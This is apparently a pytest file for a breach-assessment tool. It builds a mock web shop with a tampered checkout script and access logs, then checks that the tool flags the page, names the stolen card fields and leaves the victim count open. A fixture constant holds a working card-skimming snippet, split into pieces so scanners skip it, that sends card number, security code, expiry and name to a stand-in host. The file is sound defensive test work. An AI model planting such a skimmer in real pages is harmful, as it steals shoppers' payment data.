"""A shop whose checkout page was altered: the route, the fields that were taken, and a count that stays open."""

from __future__ import annotations

import json
import os
from datetime import UTC, datetime
from pathlib import Path

import pytest

from fixtures.builders.sheets import csv_bytes
from tests.whole_case import ask, run_case

CHANGED = datetime(2026, 9, 18, 1, 2, 3, tzinfo=UTC)
# Cut, so that no scanner takes this file for the thing.
TAIL = (
    "document.querySelector('#pay').addEventListener('submit',function(){var d={n:card_no.value,c:secur",
    "ity_code.value,e:card_exp.value,h:document.getElementsByName('name01')[0].value};var i=new Im",
    "age();i.src='https://stat.example/p.gif?d='+bt",
    "oa(JSON.stringify(d));});\n",
)
HONEST = (
    "document.getElementById('pay').addEventListener('submit',function(e){e.preventDefault();"
    "Payjp.createToken({number:card_no.value,cvc:security_code.value},function(s,r){token.value=r.id;e.target.submit()})});\n"
)
LINE = '{ip} - - [{at} +0900] "GET {path} HTTP/1.1" 200 900 "https://shop.example/" "Mozilla/5.0"\n'
TOML = """[case]
number = "T"
[incident]
cause = "web_skimming"
improper_purpose = "yes"
window_from = "2026-09-01T00:00:00+09:00"
window_to = "2026-09-30T23:59:59+09:00"
[[evidence]]
id = "web01"
path = "evidence/web01"
role = "server"
"""


def shop(folder: Path) -> Path:
    """A server given as a folder: an altered page and an honest one, a log, and orders in a file nothing was seen to reach."""
    root = folder / "case"
    site = root / "evidence" / "web01" / "var" / "www" / "html"
    (site / "js").mkdir(parents=True)
    (site / "index.html").write_text("<!doctype html><title>見本商店</title>", encoding="utf-8")
    page = site / "js" / "checkout.js"
    page.write_text(HONEST + "".join(TAIL), encoding="utf-8")
    (site / "js" / "pay.js").write_text(HONEST, encoding="utf-8")
    os.utime(page, (CHANGED.timestamp(), CHANGED.timestamp()))
    lines = [
        LINE.format(ip="203.0.113.7", at="19/Sep/2026:10:00:00", path="/js/checkout.js"),
        LINE.format(ip="203.0.113.8", at="20/Sep/2026:11:00:00", path="/js/checkout.js"),
        LINE.format(ip="203.0.113.9", at="20/Sep/2026:11:30:00", path="/index.html"),
    ]
    logs = root / "evidence" / "web01" / "var" / "log" / "nginx"
    logs.mkdir(parents=True)
    (logs / "access.log").write_text("".join(lines), encoding="utf-8")
    orders = csv_bytes([("氏名", "電話番号"), ("見本 太郎", "090-1111-2222")])
    (root / "evidence" / "web01" / "srv").mkdir()
    (root / "evidence" / "web01" / "srv" / "orders.csv").write_bytes(orders)
    (root / "case.toml").write_text(TOML, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = shop(tmp_path_factory.mktemp("shop"))
    run_case(root)
    return root


def test_the_page_is_altered_and_its_fields_and_times_are_told(case: Path) -> None:
    found = ask(
        case, "SELECT name, route, grade, reason FROM exposure JOIN file_entry USING (evidence_id, entry_id)"
    )
    ((name, route, grade, reason),) = found
    assert (name, route, grade) == ("checkout.js", "page_altered", "likely")
    items = "credit_card_expiry, credit_card_number_full, credit_card_security_code, name"
    assert f"; it names the fields {items}; last changed 2026-09-18T01:02:03Z" in reason
    assert "; fetched 2 times by 2 addresses outside, 2026-09-19T01:00:00Z to 2026-09-20T02:00:00Z" in reason


def test_who_typed_is_unknown_and_the_count_stays_open(case: Path) -> None:
    told = dict(ask(case, "SELECT grade, open_reasons FROM affected_count WHERE dimension = 'all'"))
    words = "a page sent what visitors typed to a stranger, and no file says who they are: web01 "
    for grade in ("likely", "possible"):
        assert f"{words}/var/www/html/js/checkout.js" in told[grade]
    counted = ask(case, "SELECT DISTINCT high, is_open FROM affected_count WHERE dimension = 'all'")
    assert counted == [(0, True)]


def test_the_fields_are_candidates_of_the_decision_which_is_not_no(case: Path) -> None:
    facts = {name: json.loads(value) for name, value in ask(case, "SELECT name, value FROM fact")}
    assert "credit_card_number_full" in facts["candidate_categories"]
    assert facts["persons_upper"] is None
    ((outcome,),) = ask(case, "SELECT outcome FROM decision")
    # Card numbers are at stake of persons of whom not one is known yet.
    assert json.loads(outcome)["reportable"] == "undetermined"


def test_an_honest_checkout_is_no_altered_page(case: Path) -> None:
    hit = ask(case, "SELECT DISTINCT name FROM rule_hit JOIN file_entry USING (evidence_id, entry_id)")
    assert hit == [("checkout.js",)]
